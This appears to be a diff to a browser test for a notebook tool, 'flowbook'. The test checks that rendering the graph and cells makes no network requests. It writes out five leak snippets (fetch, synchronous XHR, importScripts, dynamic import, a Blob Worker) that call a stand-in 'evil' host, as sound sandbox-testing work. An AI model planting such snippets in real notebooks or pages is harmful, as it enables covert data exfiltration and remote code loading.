@@ -207,43 +207,51 @@ test("drawing the graph and showing a cell reach no host, drawing not even one t
   tab,
 }) => {
   const allowed = await startEvilHost();
-  const leak = (origin: string, path: string) =>
-    `try { fetch("${origin}/${path}", { mode: "no-cors" }).catch(() => {}) } catch {}
-try { const xhr = new XMLHttpRequest(); xhr.open("GET", "${origin}/${path}", false); xhr.send() } catch {}
-try { importScripts("${origin}/${path}.js") } catch {}
-try { import("${origin}/${path}.js").catch(() => {}) } catch {}
-try { new Worker(URL.createObjectURL(new Blob(["fetch('${origin}/${path}')"]))).onerror = (event) => event.preventDefault() } catch {}`;
-  const markdown = `---
+  const ways = [
+    (address: string) =>
+      `fetch("${address}", { mode: "no-cors" }).catch(() => {})`,
+    (address: string) =>
+      `const xhr = new XMLHttpRequest(); xhr.open("GET", "${address}", false); xhr.send()`,
+    (address: string) => `importScripts("${address}.js")`,
+    (address: string) => `import("${address}.js").catch(() => {})`,
+    (address: string) =>
+      `new Worker(URL.createObjectURL(new Blob(["fetch('${address}')"]))).onerror = (event) => event.preventDefault()`,
+  ];
+  // One way a notebook: all of them in one drawing may take longer than a drawing may.
+  for (const way of ways) {
+    const leak = (address: string) => `try { ${way(address)} } catch {}`;
+    const markdown = `---
 flowbook: 1
 title: Drawn
 ---
 
 \`\`\`js drawn
-${leak(evil.origin, "drawn")}
+${leak(`${evil.origin}/drawn`)}
 const t = task(() => 1)
-flow("Drawn", () => { ${leak(allowed.origin, "traced")} ; return t() })
+flow("Drawn", () => { ${leak(`${allowed.origin}/traced`)} ; return t() })
 \`\`\`
 
 \`\`\`js shown
-${leak(evil.origin, "shown")}
+${leak(`${evil.origin}/shown`)}
 const shown = "shown"
 display(shown)
 \`\`\`
 `;
-  const { nodes, output } = await tab.evaluate(
-    async ([text, origin]) => {
-      await window.flowbook.open(text);
-      await window.flowbook.allow(origin);
-      const { nodes } = await window.flowbook.graph();
-      return {
-        nodes: nodes.length,
-        output: await window.flowbook.output("shown"),
-      };
-    },
-    [markdown, allowed.origin] as const,
-  );
-  expect(nodes).toBe(1);
-  expect(output?.text).toBe("shown");
+    const { nodes, output } = await tab.evaluate(
+      async ([text, origin]) => {
+        await window.flowbook.open(text);
+        await window.flowbook.allow(origin);
+        const { nodes } = await window.flowbook.graph();
+        return {
+          nodes: nodes.length,
+          output: await window.flowbook.output("shown"),
+        };
+      },
+      [markdown, allowed.origin] as const,
+    );
+    expect(nodes).toBe(1);
+    expect(output?.text).toBe("shown");
+  }
   expect(evil.hits).toEqual([]);
   expect(allowed.hits).toEqual([]);
   await allowed.close();
